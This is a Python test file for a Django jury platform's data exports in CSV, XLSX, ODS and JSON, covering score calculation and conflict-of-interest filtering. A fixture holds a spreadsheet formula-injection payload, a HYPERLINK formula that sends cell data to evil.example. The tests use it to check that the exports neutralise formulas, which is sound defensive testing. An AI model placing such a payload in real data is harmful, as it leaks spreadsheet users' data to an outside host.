import csv
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from odf import opendocument, table, text

from ami.models import CallStatus
from applications.models import ProposalStatus
from jury import exports
from jury.models import ConflictSource, ExportDataset, ExportJob, ExportStatus, Outcome
from jury.services.exports import build, request_export
from tests.ami.factories import CallFactory, CriterionFactory, TrackFactory, UserFactory
from tests.applications.factories import AdministrationFactory, MembershipFactory, ProposalFactory
from tests.jury.factories import DecisionFactory, JuryMemberFactory, ReviewFactory, ScoreFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")'


@pytest.fixture
def call():
    call = CallFactory(status=CallStatus.ANNOUNCED, score_scale_max=5)
    track = TrackFactory(call=call, name="Parcours technique")
    for rank, title in enumerate(["Détection d'anomalies", HOSTILE, "Tri du courrier\x07"], start=1):
        proposal = ProposalFactory(call=call, title=title, reference=f"AMI-{rank:04d}", status=ProposalStatus.LAUREATE)
        DecisionFactory(proposal=proposal, track=track, rank=rank, score=Decimal("90.50") - rank,
                        granted_amount_eur=100_000 * rank)
    return call


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def read_xlsx(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def read_ods(data):
    document = opendocument.load(io.BytesIO(data))
    rows = []
    for row in document.spreadsheet.getElementsByType(table.TableRow):
        cells = []
        for cell in row.getElementsByType(table.TableCell):
            paragraphs = cell.getElementsByType(text.P)
            cells.append("".join(str(p) for p in paragraphs))
        rows.append(cells)
    return rows, document


def render(fmt, call, name=ExportDataset.LAUREATES, user=None):
    columns, rows, _ = exports.dataset(call, name, user=user)
    out = io.BytesIO()
    exports.write(fmt, columns, rows, out, title=call.slug)
    return out.getvalue()


def test_laureate_rows_are_the_open_data_rows(call):
    from jury.opendata import laureate_rows as opendata_rows

    assert list(exports.laureate_rows(call)) == opendata_rows(call)


def test_csv_has_the_open_data_columns_and_neutralised_formulas(call):
    rows = read_csv(render("csv", call))

    assert rows[0] == exports.LAUREATE_COLUMNS
    assert [r[1] for r in rows[1:]] == ["AMI-0001", "AMI-0002", "AMI-0003"]
    assert rows[2][2] == "'" + HOSTILE
    assert rows[1][6:] == ["100000", "89.50", "1"]


def test_json_keeps_values_typed_and_formulas_as_they_are(call):
    rows = json.loads(render("json", call))

    assert [r["rang"] for r in rows] == [1, 2, 3]
    assert rows[1]["titre"] == HOSTILE  # JSON is not a spreadsheet: the text is exact
    assert rows[0]["score_pondere"] == 89.5
    assert rows[0]["montant_accompagnement_eur"] == 100000


def test_xlsx_cells_are_text_never_formulas(call):
    rows, sheet = read_xlsx(render("xlsx", call))

    assert rows[0] == exports.LAUREATE_COLUMNS
    assert rows[2][2] == "'" + HOSTILE
    assert sheet.cell(row=3, column=3).data_type == "s"
    assert rows[3][2] == "Tri du courrier"  # a control character XLSX cannot hold is dropped
    assert rows[1][6] == 100000


def test_ods_reads_back_with_odfpy_and_holds_no_formula(call):
    data = render("ods", call)
    rows, document = read_ods(data)

    assert zipfile.ZipFile(io.BytesIO(data)).namelist()[0] == "mimetype"
    assert rows[0] == exports.LAUREATE_COLUMNS
    assert [r[1] for r in rows[1:]] == ["AMI-0001", "AMI-0002", "AMI-0003"]
    assert rows[2][2] == HOSTILE
    cells = document.spreadsheet.getElementsByType(table.TableCell)
    assert not any(cell.getAttribute("formula") for cell in cells)
    amounts = [row.getElementsByType(table.TableCell)[6] for row in document.spreadsheet.getElementsByType(
        table.TableRow)[1:]]
    assert [(c.getAttribute("valuetype"), c.getAttribute("value")) for c in amounts][0] == ("float", "100000")


@pytest.fixture
def scored_call():
    call = CallFactory(status=CallStatus.DELIBERATION, score_scale_max=5)
    first = CriterionFactory(call=call, weight=60, position=1)
    second = CriterionFactory(call=call, weight=40, position=2)
    track = TrackFactory(call=call)
    proposals = [
        ProposalFactory(call=call, reference=f"AMI-{n:04d}", status=ProposalStatus.ELIGIBLE) for n in (1, 2)
    ]
    ProposalFactory(call=call, status=ProposalStatus.DRAFT)  # never exported
    for values in ((5, 5), (3, 4)):
        review = ReviewFactory(proposal=proposals[0])
        ScoreFactory(review=review, criterion=first, value=values[0])
        ScoreFactory(review=review, criterion=second, value=values[1])
    DecisionFactory(proposal=proposals[0], track=track, outcome=Outcome.LAUREATE, rank=1, reason="Excellent.")
    return call, proposals


def test_proposals_export_has_mean_weighted_scores_and_decisions(scored_call):
    call, proposals = scored_call
    staff = UserFactory(is_staff=True)

    rows = json.loads(render("json", call, ExportDataset.PROPOSALS, user=staff))

    assert [r["reference"] for r in rows] == ["AMI-0001", "AMI-0002"]
    # review 1: 60×5/5 + 40×5/5 = 100; review 2: 60×3/5 + 40×4/5 = 68; mean 84
    assert (rows[0]["evaluations_soumises"], rows[0]["score_pondere_moyen"]) == (2, 84.0)
    assert (rows[0]["decision"], rows[0]["motif"]) == ("Lauréat", "Excellent.")
    assert (rows[1]["evaluations_soumises"], rows[1]["score_pondere_moyen"], rows[1]["decision"]) == (0, None, "")


def test_a_conflicted_staff_juror_never_gets_the_proposal(scored_call):
    call, proposals = scored_call
    staff_juror = UserFactory(is_staff=True)
    seat = JuryMemberFactory(call=call, user=staff_juror)
    seat.conflicts.create(proposal=proposals[0], source=ConflictSource.STAFF, reason="Ancien chef de service")

    rows = read_csv(render("csv", call, ExportDataset.PROPOSALS, user=staff_juror))

    assert [r[1] for r in rows[1:]] == ["AMI-0002"]


def test_a_staff_juror_of_the_proposals_administration_never_gets_it(scored_call):
    call, proposals = scored_call
    staff_juror = UserFactory(is_staff=True)
    JuryMemberFactory(call=call, user=staff_juror)
    MembershipFactory(user=staff_juror, administration=proposals[1].administration)

    rows = read_csv(render("csv", call, ExportDataset.PROPOSALS, user=staff_juror))

    assert [r[1] for r in rows[1:]] == ["AMI-0001"]


def test_same_ministry_hides_only_when_the_call_says_so(scored_call):
    call, proposals = scored_call
    staff_juror = UserFactory(is_staff=True)
    JuryMemberFactory(call=call, user=staff_juror)
    MembershipFactory(user=staff_juror, administration=AdministrationFactory(ministry="Ministère de l'Intérieur"))

    assert len(read_csv(render("csv", call, ExportDataset.PROPOSALS, user=staff_juror))) == 3
    call.conflict_same_ministry = True
    call.save()
    assert len(read_csv(render("csv", call, ExportDataset.PROPOSALS, user=staff_juror))) == 1


def test_export_job_builds_a_stored_file_once(scored_call, django_capture_on_commit_callbacks):
    call, _ = scored_call
    staff = UserFactory(is_staff=True)

    with django_capture_on_commit_callbacks(execute=True):
        job = request_export(call=call, dataset=ExportDataset.PROPOSALS, fmt="xlsx", by=staff)

    job.refresh_from_db()
    assert (job.status, job.rows_total, job.rows_done, job.percent) == (ExportStatus.DONE, 2, 2, 100)
    assert job.file.name.endswith(".xlsx")
    with job.file.open("rb") as handle:
        rows, _ = read_xlsx(handle.read())
    assert [r[1] for r in rows[1:]] == ["AMI-0001", "AMI-0002"]
    first_file = job.file.name
    assert build(job=job).file.name == first_file  # a redelivered task writes nothing new
    assert ExportJob.objects.count() == 1


def test_export_laureates_command_writes_each_format(call, tmp_path):
    for fmt in ("csv", "xlsx", "ods", "json"):
        target = tmp_path / f"laureats.{fmt}"
        call_command("export_laureates", call.slug, "--format", fmt, "--output", str(target))
        assert target.stat().st_size > 0
    assert read_csv(target.with_suffix(".csv").read_bytes())[1][1] == "AMI-0001"
    assert json.loads(target.read_bytes())[2]["reference"] == "AMI-0003"


def test_export_laureates_refuses_an_unannounced_call():
    call = CallFactory(status=CallStatus.REVIEW)
    with pytest.raises(CommandError, match="not announced"):
        call_command("export_laureates", call.slug)
    with pytest.raises(CommandError, match="No call"):
        call_command("export_laureates", "inconnu")
